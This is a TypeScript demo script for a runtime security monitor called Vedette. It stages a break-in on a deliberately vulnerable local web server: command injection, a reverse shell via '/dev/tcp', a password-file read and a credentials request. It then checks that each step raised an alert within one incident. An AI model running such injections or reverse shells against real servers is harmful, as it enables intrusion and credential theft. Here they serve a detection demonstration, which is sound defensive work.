// SPDX-License-Identifier: Apache-2.0
//
// `npm run demo`: a small, real break-in under Vedette, and the incident that it makes. A web server with a
// command injection runs under `vedette run`; an attacker makes it call back with a shell, reads the password
// file and asks for the task's credentials. Ends with status 0 only if each of these was noticed, and all of
// it is one incident. Runs inside a network namespace that .ci/demo makes. In the folder VEDETTE_DEMO_KEEP it
// leaves the store and the evidence, for the console.
import { spawn } from "node:child_process";
import { existsSync, mkdtempSync, readFileSync, rmSync } from "node:fs";
import { type AddressInfo, createServer } from "node:net";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { setTimeout } from "node:timers/promises";
import { inject, isListening, listenForShell, serveCredentials, THEFTS, type } from "./attacker.js";

interface Alert {
  readonly rule: string;
  readonly output_fields: Readonly<Record<string, unknown>>;
}
const MUST_SEE = [
  "Shell spawned by a server",
  "Shell on a socket",
  "Sensitive file read",
  "Task credentials requested",
];

const ROOT = resolve(import.meta.dirname, "../..");
const folder = mkdtempSync(join(tmpdir(), "vedette-demo-"));
const alertsPath = join(folder, "alerts.jsonl");
const { VEDETTE_DEMO_KEEP: keep = folder } = process.env;
process.on("exit", () => rmSync(folder, { recursive: true, force: true }));

const port = await freePort();
const victim = ["/usr/bin/python3", join(ROOT, "test/demo/victim.py"), String(port)];
const vedette = [
  join(ROOT, "build/js/host/main.js"),
  "run",
  "--incidents",
  "--alerts-detail",
  "--alerts",
  alertsPath,
  ...["--store", join(keep, "store"), "--evidence", join(keep, "evidence")],
  "--",
  ...victim,
];

say("1. A web server is started under Vedette:", `vedette run -- python3 victim.py ${port}`);
const watched = spawn(process.execPath, vedette, {
  stdio: ["ignore", "inherit", "inherit"],
  env: { ...process.env, HOME: folder },
});
const ended = new Promise<number>((done) => watched.on("exit", (status) => done(status ?? 1)));
await untilListening();

say(
  "2. An attacker finds that the server passes its input to a shell, and makes the shell call back:",
  "GET /?host=localhost; bash -i >& /dev/tcp/...",
);
const closeCredentials = await serveCredentials();
const listener = await listenForShell();
const injected = inject(port, listener.port);
const shell = await Promise.race([listener.shell, fail(60_000, "the reverse shell did not call back")]);

say("3. The attacker has a shell on the server, and types:");
for (const { say: what, command } of THEFTS) {
  const printed = await type(shell, command);
  console.log(`     ${command}   (${what}${printed.includes("made-up") ? ": it got them" : ""})`);
}
shell.end("exit\n");
await injected;
listener.close();
closeCredentials();
say("4. The server is stopped. What Vedette saw, as one story:");
watched.kill("SIGTERM");
await ended;

const alerts = readAlerts();
const unseen = MUST_SEE.filter((rule) => !alerts.some((alert) => alert.rule === rule));
const incidents = new Set(alerts.map(({ output_fields: fields }) => fields["vedette.incident.id"]));
if (unseen.length > 0 || incidents.size !== 1) {
  const missing =
    unseen.length > 0 ? `no alert came for ${unseen.join(", ")}` : `there are ${incidents.size} incidents`;
  console.log(`\nThe demo failed: ${missing}.`);
  process.exit(1);
}
console.log("\nVedette noticed every step of the break-in, from outside the kernel, and the server ran on as before.");
console.log(
  keep === folder
    ? "See the incident in a browser, with its evidence: `npm run demo -- --console`."
    : "The incident and its evidence are kept for the console.",
);
console.log("Next: `npm test`, or watch a program of your own: `npm run vedette -- trace -- ls`.");

function readAlerts(): Alert[] {
  if (!existsSync(alertsPath)) return [];
  const lines = readFileSync(alertsPath, "utf8").split("\n");
  return lines.filter((line) => line !== "").map((line) => JSON.parse(line) as Alert);
}

function say(step: string, detail?: string): void {
  console.log(`\n${step}${detail === undefined ? "" : `\n     ${detail}`}`);
}

/** Without a request: each makes the server start a shell. */
async function untilListening(): Promise<void> {
  for (let tries = 0; tries < 300; tries++) {
    if (await isListening(port)) return;
    if (watched.exitCode !== null) throw new Error(`the server ended with status ${watched.exitCode}`);
    await setTimeout(100);
  }
  throw new Error("the server does not listen");
}

async function fail(ms: number, text: string): Promise<never> {
  await setTimeout(ms, undefined, { ref: false });
  throw new Error(text);
}

function freePort(): Promise<number> {
  return new Promise((done) => {
    const server = createServer().listen(0, "127.0.0.1", () => {
      const { port: free } = server.address() as AddressInfo;
      server.close(() => done(free));
    });
  });
}
